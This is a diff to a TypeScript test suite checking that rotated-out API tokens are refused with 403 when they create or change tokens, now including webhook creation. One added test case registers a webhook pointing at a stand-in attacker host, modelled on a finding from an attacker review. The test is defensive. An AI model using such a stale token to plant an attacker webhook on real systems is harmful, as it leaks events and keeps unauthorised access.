@@ -8,6 +8,7 @@ import { DELETE as revokeRoute, PATCH as patchToken } from "@/app/api/v1/tokens/
 import { POST as rotateRoute } from "@/app/api/v1/tokens/[id]/rotate/route";
 import { POST as rotateSelf } from "@/app/api/v1/tokens/self/rotate/route";
 import { GET as listTokens, POST as createTokenRoute } from "@/app/api/v1/tokens/route";
+import { POST as createWebhook } from "@/app/api/v1/webhooks/route";
 import { consoleActor } from "@/lib/auth/actor";
 import { deleteToken } from "@/lib/tokens/revoke";
 import { callRoute, createApiFixture, type ApiFixture } from "../../../fixtures/api";
@@ -117,8 +118,8 @@ describe("a rotated-out value acts as its lineage's current token", () => {
 });
 
 describe("a rotated-out value calls APIs but never creates or changes a token", () => {
-  it("POST /api/v1/tokens, rotate, PATCH, DELETE and client secrets refuse it with 403; reads work", async () => {
-    const everything = ["tokens:read", "tokens:write", "tokens:admin", "applications:read", "applications:write"];
+  it("POST /api/v1/tokens, rotate, PATCH, DELETE, client secrets and webhook endpoints refuse it with 403; reads work", async () => {
+    const everything = ["tokens:read", "tokens:write", "tokens:admin", "applications:read", "applications:write"] as string[];
     const { old, current } = await rotatedLineage(everything);
     const as = { token: old.value, ip: freshIp() };
     const refused = [
@@ -127,6 +128,12 @@ describe("a rotated-out value calls APIs but never creates or changes a token", 
       await callRoute(rotateRoute, { ...as, method: "POST", params: { id: current.token.id }, body: {} }),
       await callRoute(patchToken, { ...as, method: "PATCH", params: { id: current.token.id }, body: { description: "mine now" } }),
       await callRoute(revokeRoute, { ...as, method: "DELETE", params: { id: f.rep.token.id } }),
+      // An attacker review found a webhook endpoint it planted outlived its grace (issue 24).
+      await callRoute(createWebhook, {
+        ...as,
+        method: "POST",
+        body: { url: "https://attacker.example.com/hook", events: ["token.revoked"] },
+      }),
       await callRoute(createClientSecret, {
         ...as,
         method: "POST",
